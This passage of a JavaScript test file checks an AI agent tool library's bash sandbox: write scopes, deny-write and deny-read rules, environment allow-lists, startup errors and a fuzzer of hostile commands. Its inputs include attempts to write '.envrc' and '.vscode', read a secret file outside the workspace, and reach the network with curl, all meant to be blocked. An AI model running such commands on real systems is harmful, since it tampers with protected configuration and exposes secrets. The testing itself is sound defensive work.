  const env = await bash('echo $HTTPS_PROXY; echo $HTTP_PROXY; echo $ALL_PROXY; echo $https_proxy; echo "[$NO_PROXY]"', proxied)
  assert.match(env.stdout, /^(http:\/\/127\.0\.0\.1:\d+\n){4}\[\]\n$/)
  srv.close()
})

test('the object form: writeScope roots, allowWrite, denyWrite, denyRead, env.allow', { skip }, async () => {
  const extra = path.join(base, 'extra')
  put(path.join(extra, 'ro/kept.txt'), 'kept\n')
  put(path.join(ws, 'scoped/locked.txt'), 'locked\n')
  const t = createAgentTools({
    workspaceRoot: ws,
    writeScope: ['scoped'],
    sandbox: {
      filesystem: { allowWrite: [extra], denyWrite: ['locked.txt', path.join(extra, 'ro')], denyRead: [path.join(outside, 'secret.txt')] },
      env: { allow: ['SBX_TEST_TOKEN'] },
    },
  })
  // The writeScope roots and allowWrite are writable; the rest of the workspace is not.
  let r = await bash(`echo a > scoped/a.txt && echo b > ${extra}/b.txt && echo ok`, t)
  assert.equal(r.stdout, 'ok\n', r.stderr)
  assert.equal(fs.readFileSync(path.join(extra, 'b.txt'), 'utf8'), 'b\n')
  r = await bash('echo x > outside-scope.txt', t)
  assert.notEqual(r.exit_code, 0)
  assert.ok(!fs.existsSync(path.join(ws, 'outside-scope.txt')))
  // denyWrite: a relative name in every root, an absolute path inside one; the default
  // protected names live in every writable root too.
  for (const a of ['echo x >> scoped/locked.txt', `echo x > ${extra}/locked.txt`, `echo x > ${extra}/ro/new.txt`, `echo x >> ${extra}/ro/kept.txt`, 'mkdir scoped/.vscode', `echo evil > ${extra}/.envrc`]) {
    r = await bash(a, t)
    assert.notEqual(r.exit_code, 0, a)
  }
  assert.equal(fs.readFileSync(path.join(ws, 'scoped/locked.txt'), 'utf8'), 'locked\n')
  assert.equal(fs.readFileSync(path.join(extra, 'ro/kept.txt'), 'utf8'), 'kept\n')
  assert.ok(!fs.existsSync(path.join(extra, 'ro/new.txt')))
  // denyRead hides a file that is readable otherwise; env.allow passes a secret-looking name.
  r = await bash(`cat ${outside}/secret.txt; echo "env=$SBX_TEST_TOKEN"`, t)
  assert.ok(!r.stdout.includes(SECRET), r.stdout)
  assert.match(r.stdout, new RegExp(`env=${ENV_SECRET}`))
  r = await bash(`cat ${outside}/secret.txt`)
  assert.ok(r.stdout.includes(SECRET), 'the default policy reads it')
  unchanged()
})

test('Windows refuses the sandbox with a StartupError', { skip: process.platform !== 'win32' && 'Windows only' }, () => {
  assert.throws(
    () => createAgentTools({ workspaceRoot: base, sandbox: true }),
    (e) => e instanceof StartupError && /^sandbox is not supported on Windows/.test(e.message),
  )
  assert.equal(probeSandbox().platform, 'windows')
})

test('options are validated with StartupError messages', () => {
  const bad = [
    [{ sandbox: 'yes' }, /^sandbox must be true, false or an object/],
    [{ sandbox: { network: 'some' } }, /^sandbox\.network must be 'none', 'all'/],
    [{ sandbox: { filesystem: { allowWrite: 'x' } } }, /allowWrite must be an array of strings/],
    [{ sandbox: { require: ['flying'] } }, /unknown property: flying/],
    [{ sandbox: { nope: 1 } }, /sandbox has an unknown key: nope/],
  ]
  const root = scratch()
  for (const [opts, re] of bad) {
    assert.throws(() => createAgentTools({ workspaceRoot: root, ...opts }), (e) => e instanceof StartupError && re.test(e.message))
  }
})

test('the mcp command line: --sandbox, --allow-write, --allow-domain and CLARVIS_SANDBOX', { skip: process.platform === 'win32' && 'Windows refuses the sandbox (its own test says so)' }, () => {
  const root = scratch()
  const plain = { filesystem: { allowWrite: [], denyWrite: [], denyRead: [] }, network: 'none', env: { allow: [] } }
  const sandbox = (args, env = {}) => buildConfig(['--workspace', root, ...args], env, () => false).sandbox
  assert.equal(sandbox([]), undefined, 'off by default')
  assert.equal(sandbox([], { CLARVIS_SANDBOX: 'off' }), undefined)
  assert.deepEqual(sandbox(['--sandbox']), plain)
  assert.deepEqual(sandbox([], { CLARVIS_SANDBOX: 'on' }), plain)
  // Either list flag turns it on and adds to the lists (repeatable, `=` forms too).
  const c = sandbox(['--allow-write', '/opt/a', '--allow-write=/opt/b', '--allow-domain', 'a.com', '--allow-domain=*.b.com'], {
    CLARVIS_SANDBOX: '{"env":{"allow":["A_TOKEN"]},"network":{"allowedDomains":["c.com"]}}',
  })
  assert.deepEqual(c.filesystem.allowWrite, ['/opt/a', '/opt/b'])
  assert.deepEqual(c.network.allowedDomains, ['c.com', 'a.com', '*.b.com'])
  assert.deepEqual(c.env.allow, ['A_TOKEN'])
  assert.throws(() => sandbox([], { CLARVIS_SANDBOX: 'maybe' }), (e) => e instanceof StartupError && /CLARVIS_SANDBOX/.test(e.message))
  assert.throws(() => sandbox([], { CLARVIS_SANDBOX: '{nope' }), (e) => e instanceof StartupError && /CLARVIS_SANDBOX is not valid JSON/.test(e.message))
})

/** Runs `script` in a fresh Node with the test hooks and `CLARVIS_SANDBOX_FORCE`. */
function forced(force, script, extraEnv = {}) {
  const r = spawnSync(process.execPath, ['--input-type=module', '-e', script], {
    env: { ...process.env, CLARVIS_AGENT_TOOLS_TEST_HOOKS: '1', CLARVIS_SANDBOX_FORCE: force, ...extraEnv },
    encoding: 'utf8',
    cwd: path.dirname(new URL(import.meta.url).pathname),
  })
  return r.stdout + r.stderr
}

test('each missing mechanism is a StartupError naming it, unless require leaves it out', { skip }, () => {
  const head = `import { createAgentTools } from '../index.mjs'; const ws = ${JSON.stringify(ws)};`
  const fails = (sandbox) =>
    `${head} try { createAgentTools({ workspaceRoot: ws, sandbox: ${sandbox} }); console.log('started') } catch (e) { console.log(e.name + ': ' + e.message) }`
  let out = forced('no-landlock', fails('true'))
  assert.match(out, /StartupError: sandbox: writes, protectedPaths, reads, unixSockets, signals, ptrace cannot be enforced on this machine: it needs Landlock/)
  out = forced('no-userns', fails('true'))
  assert.match(out, /StartupError: sandbox: writes, protectedPaths, reads, unixSockets cannot be enforced on this machine: it needs user namespaces \(switched off for this test\) for a read-only mount tree/)
  out = forced('landlock-abi=3', fails('true'))
  assert.match(out, /StartupError: sandbox: signals cannot be enforced on this machine: it needs Landlock ABI 6/)
  out = forced('no-seccomp', fails('true'))
  assert.match(out, /StartupError: sandbox: namespaces cannot be enforced on this machine: it needs seccomp/)
  // With require, the rest runs — and is still enforced.
  const run = (require, command) =>
    `${head} const t = createAgentTools({ workspaceRoot: ws, sandbox: { require: ${JSON.stringify(require)} } }); const r = JSON.parse((await t.callTool('bash', { command: ${JSON.stringify(command)} })).text); console.log(JSON.stringify({ code: r.exit_code, st: t.sandboxStatus().properties }))`
  const o = outside
  for (const [force, require] of [
    ['no-userns', ['network', 'signals', 'ptrace', 'privileges', 'namespaces', 'environment']],
    ['landlock-abi=3', ['writes', 'protectedPaths', 'reads', 'network', 'unixSockets', 'ptrace', 'privileges', 'namespaces', 'environment']],
    ['no-seccomp', ['writes', 'protectedPaths', 'reads', 'network', 'unixSockets', 'signals', 'ptrace', 'privileges', 'environment']],
  ]) {
    const line = forced(force, run(require, `echo x > ${o}/forced.txt`)).trim().split('\n').at(-1)
    const res = JSON.parse(line)
    assert.notEqual(res.code, 0, `${force}: the write went through`)
    for (const p of require) assert.equal(res.st[p].enforced, true, `${force}: ${p}`)
  }
  const net = forced('no-landlock', run(['network', 'privileges', 'environment', 'namespaces'], `curl -sS -m 2 http://127.0.0.1:9/`))
  assert.notEqual(JSON.parse(net.trim().split('\n').at(-1)).code, 0)
  assert.ok(!fs.existsSync(path.join(outside, 'forced.txt')))
})

test('as an unprivileged user (uid 65534) the sandbox holds too', { skip }, () => {
  const dir = fs.mkdtempSync(path.join(visibleDir(), 'sbx-nobody-'))
  fs.chmodSync(dir, 0o777)
  const wsn = path.join(dir, 'ws')
  fs.mkdirSync(wsn)
  fs.chmodSync(wsn, 0o777)
  const outsideFile = path.join(dir, 'outside.txt')
  fs.writeFileSync(outsideFile, 'keep')
  fs.chmodSync(outsideFile, 0o666)
  const index = new URL('../index.mjs', import.meta.url).pathname
  const script = `import { createAgentTools } from ${JSON.stringify(index)}; const t = createAgentTools({ workspaceRoot: ${JSON.stringify(wsn)}, sandbox: true }); const a = JSON.parse((await t.callTool('bash', { command: 'echo in > in.txt && echo x > ${outsideFile}; echo $?; id -u' })).text); console.log(JSON.stringify(a)); console.log(JSON.stringify(t.sandboxStatus().properties.protectedPaths))`
  const r = spawnSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, '--input-type=module', '-e', script], {
    encoding: 'utf8',
    env: { PATH: process.env.PATH, HOME: dir },
    cwd: dir,
  })
  try {
    assert.equal(r.status, 0, r.stderr)
    const [line, prot] = r.stdout.trim().split('\n')
    const res = JSON.parse(line)
    const [status, uid] = res.stdout.trim().split('\n')
    assert.notEqual(status, '0', res.stderr)
    assert.equal(uid, '65534')
    assert.equal(JSON.parse(prot).enforced, true)
    assert.equal(fs.readFileSync(outsideFile, 'utf8'), 'keep')
    assert.equal(fs.readFileSync(path.join(wsn, 'in.txt'), 'utf8'), 'in\n')
  } finally {
    fs.rmSync(dir, { recursive: true, force: true })
  }
})

test('the sandbox fuzzer: random hostile commands change nothing outside', { skip }, async () => {
  const { runSandboxFuzz } = await import('./fuzz-gen.mjs')
  const seed = Number(process.env.FUZZ_SEED || crypto.randomInt(1, 2 ** 31))
  const count = Number(process.env.SANDBOX_FUZZ_COUNT || 60)
  const res = await runSandboxFuzz({ count, seed, log: (l) => console.log(l) })
  assert.deepEqual(res.failures, [], `seed ${seed}`)
})
